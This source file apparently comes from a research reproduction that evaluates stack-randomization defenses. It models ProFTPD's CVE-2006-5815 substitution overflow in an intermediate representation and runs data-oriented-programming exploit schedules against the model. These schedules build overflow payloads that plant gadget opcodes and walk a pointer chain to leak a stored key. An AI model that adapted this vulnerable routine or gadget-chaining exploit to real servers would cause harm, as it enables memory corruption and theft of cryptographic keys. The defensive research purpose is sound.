//===- apps/Proftpd.cpp - ProFTPD CVE-2006-5815 model ----------------------===//
//
// Part of the Smokestack reproduction. MIT license.
//
//===----------------------------------------------------------------------===//

#include "apps/Proftpd.h"

#include "attacks/Attacker.h"
#include "ir/IRBuilder.h"

using namespace smokestack;

namespace {

/// sreplace: the vulnerable substitution routine.
///   cmd = next command text (into the g_cmdbuf staging global);
///   n   = sizeof(sbuf) - strlen(cmd);     // underflows when cmd > 128
///   sstrncpy(sbuf, cmd, n);               // n <= 0 copies unbounded
/// sbuf is declared first so it tops the frame: the copy runs straight into
/// the caller.
void buildSreplace(Module &M) {
  IRBuilder B(M);
  Function *GetInputN =
      M.getOrInsertDeclaration("get_input_n", B.i64(), {B.ptr(), B.i64()});
  Function *Strlen = M.getOrInsertDeclaration("strlen", B.i64(), {B.ptr()});
  Function *Sstrncpy = M.getOrInsertDeclaration(
      "sstrncpy", B.ptr(), {B.ptr(), B.ptr(), B.i64()});
  GlobalVariable *CmdBuf =
      M.createGlobal("g_cmdbuf", B.getContext().getArrayTy(B.i8(), 4096));

  Function *F = M.createFunction("sreplace", B.voidTy(), {});
  B.setInsertPoint(F->createBlock("entry"));
  AllocaInst *SBuf = B.alloca_(B.getContext().getArrayTy(B.i8(), 128), "sbuf");
  B.call(GetInputN, {CmdBuf, B.constI64(4095)});
  Value *CmdLen = B.call(Strlen, {CmdBuf}, "cmdlen");
  Value *Space = B.sub(B.constI64(128), CmdLen, "space");
  B.call(Sstrncpy, {SBuf, CmdBuf, Space});
  B.ret();
}

/// main_loop: the FTP command loop, holding the gadget dispatcher (byte
/// counter `ctr`, exits at 10) and three DOP gadgets over byte opcode `op`:
///   op==1 LOAD:  val = *(ptr)val      (walks the pointer chain in memory)
///   op==2 SEED:  val = &p1            (the one non-randomized base pointer)
///   op==3 MOV:   out = val
/// The chain p1 -> p2 -> ... -> p7 -> key models ProFTPD's seven levels of
/// indirection guarding the OpenSSL key.
void buildMainLoop(Module &M) {
  IRBuilder B(M);
  Function *Sreplace = M.getFunction("sreplace");
  GlobalVariable *Key = M.createGlobal(
      "g_key", B.getContext().getArrayTy(B.i8(), 32),
      {'K', 'E', 'Y', 'B', 'Y', 'T', 'E', 'S', 'x', 'x', 'x', 'x'});
  std::vector<GlobalVariable *> Chain;
  for (int I = 1; I <= 7; ++I)
    Chain.push_back(M.createGlobal("g_p" + std::to_string(I), B.i64()));

  Function *F = M.createFunction("main_loop", B.i64(), {});
  BasicBlock *Entry = F->createBlock("entry");
  BasicBlock *Loop = F->createBlock("loop");
  BasicBlock *Body = F->createBlock("body");
  BasicBlock *Chk2 = F->createBlock("chk2");
  BasicBlock *Chk3 = F->createBlock("chk3");
  BasicBlock *GLoad = F->createBlock("g_load");
  BasicBlock *GSeed = F->createBlock("g_seed");
  BasicBlock *GMov = F->createBlock("g_mov");
  BasicBlock *Latch = F->createBlock("latch");
  BasicBlock *Exit = F->createBlock("exit");

  B.setInsertPoint(Entry);
  AllocaInst *DummyTop =
      B.alloca_(B.getContext().getArrayTy(B.i8(), 16), "dummyTop");
  AllocaInst *Out = B.alloca_(B.i64(), "out");
  AllocaInst *Val = B.alloca_(B.i64(), "val");
  AllocaInst *PadA = B.alloca_(B.getContext().getArrayTy(B.i8(), 16), "padA");
  AllocaInst *Op = B.alloca_(B.i8(), "op");
  AllocaInst *PadB = B.alloca_(B.getContext().getArrayTy(B.i8(), 16), "padB");
  AllocaInst *Ctr = B.alloca_(B.i8(), "ctr");
  AllocaInst *PadC = B.alloca_(B.getContext().getArrayTy(B.i8(), 16), "padC");
  B.store(B.constI8(0), B.gepConst(DummyTop, 0));
  B.store(B.constI64(0), Out);
  B.store(B.constI64(0), Val);
  B.store(B.constI8(0), B.gepConst(PadA, 0));
  B.store(B.constI8(0), Op);
  B.store(B.constI8(0), B.gepConst(PadB, 0));
  B.store(B.constI8(0), Ctr);
  B.store(B.constI8(0), B.gepConst(PadC, 0));

  // Build the pointer chain: p1 -> p2 -> ... -> p7 -> key.
  for (int I = 0; I != 7; ++I) {
    Value *Next =
        B.cast_(CastInst::CastOp::PtrToInt, B.i64(),
                I == 6 ? static_cast<Value *>(Key)
                       : static_cast<Value *>(Chain[I + 1]));
    B.store(Next, Chain[I]);
  }
  B.br(Loop);

  B.setInsertPoint(Loop);
  B.condBr(B.icmp(ICmpInst::Predicate::NE, B.load(B.i8(), Ctr),
                  B.constI8(10)),
           Body, Exit);

  B.setInsertPoint(Body);
  B.call(Sreplace, {});
  Value *OpV = B.load(B.i8(), Op, "opv");
  B.condBr(B.icmp(ICmpInst::Predicate::EQ, OpV, B.constI8(1)), GLoad, Chk2);
  B.setInsertPoint(Chk2);
  B.condBr(B.icmp(ICmpInst::Predicate::EQ, OpV, B.constI8(2)), GSeed, Chk3);
  B.setInsertPoint(Chk3);
  BasicBlock *Chk4 = F->createBlock("chk4");
  B.condBr(B.icmp(ICmpInst::Predicate::EQ, OpV, B.constI8(3)), GMov, Chk4);
  BasicBlock *GOut = F->createBlock("g_out");
  B.setInsertPoint(Chk4);
  B.condBr(B.icmp(ICmpInst::Predicate::EQ, OpV, B.constI8(4)), GOut, Latch);
  B.setInsertPoint(GOut); // bot beacon: emit val on the control channel
  Function *Print =
      M.getOrInsertDeclaration("print_i64", B.voidTy(), {B.i64()});
  B.call(Print, {B.load(B.i64(), Val)});
  B.br(Latch);

  B.setInsertPoint(GLoad); // val = *(ptr)val
  Value *Ptr = B.cast_(CastInst::CastOp::IntToPtr, B.ptr(),
                       B.load(B.i64(), Val));
  B.store(B.load(B.i64(), Ptr), Val);
  B.br(Latch);

  B.setInsertPoint(GSeed); // val = &p1
  B.store(B.cast_(CastInst::CastOp::PtrToInt, B.i64(), Chain[0]), Val);
  B.br(Latch);

  B.setInsertPoint(GMov); // out = val
  B.store(B.load(B.i64(), Val), Out);
  B.br(Latch);

  B.setInsertPoint(Latch);
  B.store(B.add(B.load(B.i8(), Ctr), B.constI8(1)), Ctr);
  B.br(Loop);

  B.setInsertPoint(Exit);
  B.ret(B.load(B.i64(), Out));
}

/// main_loop's gadget opcodes.
enum GadgetOpcode : uint8_t { Load = 1, SeedCursor = 2, Mov = 3, Beacon = 4 };

/// One dispatcher round of a command schedule: the gadget opcode to plant
/// and the counter value the round leaves behind.
struct Round {
  uint8_t Op;
  uint8_t Ctr;
};

/// Deploys the ProFTPD model under \p Config and runs the campaign whose
/// lowering turns \p Schedule into commands against the disclosed layout:
/// one per round performing a linear sweep [sbuf .. op] with ctr/op planted
/// at their disclosed offsets, then a benign terminator command in case the
/// schedule missed (stale layout) that keeps the loop from replaying the
/// last overflow forever. Commands must be NUL-free; a {0} terminator byte
/// keeps g_cmdbuf's strlen exact across records.
AttackReport runSchedule(const ScenarioConfig &Config,
                         const std::vector<Round> &Schedule,
                         const SuccessTest &Landed) {
  Module M("proftpd");
  buildProftpdModule(M);
  DeployedDefense Deployed = deployDefense(M, Config.Defense, Config.BuildSeed);
  auto Lower = [&](const LayoutOracle &Oracle) -> std::optional<Exploit> {
    if (!Oracle.knows("sreplace", "sbuf") ||
        !Oracle.knows("main_loop", "op") || !Oracle.knows("main_loop", "ctr"))
      return std::nullopt;
    int64_t Base = static_cast<int64_t>(Oracle.addressOf("sreplace", "sbuf"));
    int64_t OffOp =
        static_cast<int64_t>(Oracle.addressOf("main_loop", "op")) - Base;
    int64_t OffCtr =
        static_cast<int64_t>(Oracle.addressOf("main_loop", "ctr")) - Base;
    if (OffOp <= 0 || OffCtr <= 0 || OffCtr >= OffOp)
      return std::nullopt; // the dispatcher is unreachable

    Exploit E{{}, Landed};
    for (const Round &R : Schedule) {
      std::vector<uint8_t> Cmd(static_cast<size_t>(OffOp) + 1, 'A');
      Cmd[static_cast<size_t>(OffCtr)] = R.Ctr;
      Cmd[static_cast<size_t>(OffOp)] = R.Op;
      Cmd.push_back(0); // staging-buffer terminator (not copied by sstrncpy)
      E.Records.push_back(std::move(Cmd));
    }
    E.Records.push_back({'B', 0});
    return E;
  };
  return runCampaign(M, Deployed, Config.Rng, "main_loop", Config.Budget,
                     Lower);
}

} // namespace

void smokestack::buildProftpdModule(Module &M) {
  buildSreplace(M);
  buildMainLoop(M);
}

AttackReport smokestack::runProftpdBotExploit(const ScenarioConfig &Config) {
  // The bot script: SEED the cursor at the chain base, LOAD once (val now
  // holds &p2 — a stable, nonzero beacon), then emit three beacons while
  // holding the dispatcher open (ctr reset to 0x80), then let it retire.
  std::vector<Round> Script = {{SeedCursor, 0x80}, {Load, 0x80}};
  Script.insert(Script.end(), 3, {Beacon, 0x80});
  Script.push_back({SeedCursor, 9});
  // Success: exactly the scripted beacon bursts appeared (three lines of
  // the same nonzero value).
  return runSchedule(Config, Script,
                     [](uint64_t, const std::string &Out) {
                       size_t FirstNl = Out.find('\n');
                       if (FirstNl == std::string::npos || Out[0] == '0')
                         return false;
                       std::string Line = Out.substr(0, FirstNl + 1);
                       return Out == Line + Line + Line;
                     });
}

AttackReport smokestack::runProftpdExploit(const ScenarioConfig &Config) {
  // The published exploit's 24-step gadget chain, as SEED + 8 LOADs + MOV
  // with the dispatcher counter reset (0x80) every round and retired (9,
  // ++ -> 10) on the last.
  std::vector<Round> Chain = {{SeedCursor, 0x80}};
  Chain.insert(Chain.end(), 8, {Load, 0x80});
  Chain.push_back({Mov, 9});
  return runSchedule(Config, Chain, returns(ProftpdKeyWord));
}
